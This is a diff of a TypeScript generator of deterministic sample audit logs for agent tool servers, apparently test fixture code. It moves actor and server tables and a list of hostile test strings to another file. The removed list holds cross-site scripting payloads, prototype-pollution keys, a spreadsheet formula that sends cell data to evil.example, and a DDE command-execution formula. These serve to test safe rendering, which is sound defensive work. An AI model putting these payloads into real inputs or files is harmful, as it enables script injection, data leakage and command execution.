@@ -1,10 +1,9 @@
-import { createWriteStream } from 'node:fs';
-import { writeFileSync } from 'node:fs';
+import { createWriteStream, writeFileSync } from 'node:fs';
 import { once } from 'node:events';
 import { encodeLine } from '../../lib/codecs/json.js';
 import { EVENT_TYPES } from '../../lib/schema/tables.js';
 import type { AuditRecord, EventType, Outcome, Severity } from '../../lib/schema/record.js';
-import { HOSTILE_TEXT } from './sampleRecords.js';
+import { ACTORS, HOSTILE_VALUES, SERVERS, type Server } from './sampleWorld.js';
 
 /** What a made-up log is like. The same options give the same bytes. */
 export interface SampleLogOptions {
@@ -22,23 +21,6 @@ export interface SampleLogOptions {
   readonly gaps?: boolean;
 }
 
-/** Texts that run, break or turn around what shows them badly. */
-export const HOSTILE_VALUES = [
-  '</script><script>window.__pwned = 1</script>',
-  '<img src=x onerror="window.__pwned = 2">',
-  '"><svg onload=window.__pwned=3>',
-  "' onmouseover='window.__pwned=4",
-  '${window.__pwned = 5}{{constructor.constructor("window.__pwned=6")()}}',
-  'javascript:window.__pwned=7',
-  '<!--<script>',
-  ']]>--><style>body{display:none}</style>',
-  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
-  '@SUM(1+1)*cmd|"/c calc"!A0',
-  '__proto__',
-  'constructor',
-  HOSTILE_TEXT,
-] as const;
-
 /** A small generator of even random numbers (mulberry32), so that a log is the same on every machine. */
 export function randomNumbers(seed: number): () => number {
   let state = seed >>> 0;
@@ -49,57 +31,6 @@ export function randomNumbers(seed: number): () => number {
     return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
   };
 }
-
-const ACTORS = [
-  ['alice@example.com', 'user', 22],
-  ['bob@example.com', 'user', 14],
-  ['carol@example.com', 'user', 9],
-  ['research-agent', 'agent', 26],
-  ['billing-agent', 'agent', 15],
-  ['nightly-sync', 'service', 11],
-  ['mallory@example.com', 'user', 3],
-] as const;
-
-const SERVERS = [
-  {
-    id: 'filesystem',
-    version: '2026.8.31',
-    address: 'npx server-filesystem',
-    transport: 'stdio',
-    tools: ['read_file', 'write_file', 'list_directory', 'search_files'],
-    resources: ['file:///srv/data/customers.csv', 'file:///srv/data/prices.json', 'file:///etc/motd'],
-    share: 40,
-  },
-  {
-    id: 'billing',
-    version: '1.4.2',
-    address: 'https://billing.example/mcp',
-    transport: 'streamable-http',
-    tools: ['create_invoice', 'refund', 'get_customer'],
-    resources: ['billing://invoices/2026', 'billing://customers'],
-    share: 28,
-  },
-  {
-    id: 'memory',
-    version: '0.9.0',
-    address: 'npx server-memory',
-    transport: 'stdio',
-    tools: ['search_nodes', 'create_entities'],
-    resources: ['memory://graph'],
-    share: 20,
-  },
-  {
-    id: 'weather',
-    version: '3.1.0',
-    address: 'https://weather.example/mcp',
-    transport: 'streamable-http',
-    tools: ['forecast'],
-    resources: ['weather://stations'],
-    share: 12,
-  },
-] as const;
-
-type Server = (typeof SERVERS)[number];
 
 /** Makes the records of a log, one after the other. */
 export function* sampleLog(options: SampleLogOptions): Generator<AuditRecord> {
@@ -171,7 +102,9 @@ function base(
   'event_type' | 'outcome' | 'severity' | 'resource' | 'message' | 'ocsf_class_uid' | 'ocsf_activity_id'
 > {
   const { random } = state;
+  let root = false;
   if (state.left-- <= 0) {
+    root = state.process === 0;
     // Every process of a fleet takes part in the same traces: their ids follow from their number alone.
     state.trace = hex(randomNumbers(1000 + state.operation), 32);
     state.root = hex(randomNumbers(5000 + state.operation), 16);
@@ -198,8 +131,7 @@ function base(
     environment: 'production',
     correlation_id: state.trace,
     trace_id: state.trace,
-    span_id: hex(random, 16),
-    parent_span_id: state.root,
+    ...(root ? { span_id: state.root } : { span_id: hex(random, 16), parent_span_id: state.root }),
     session_id: `session-${state.process}-${Math.floor(state.seq / 200)}`,
     policy_tags: ['soc2', 'pci'],
     metadata: {
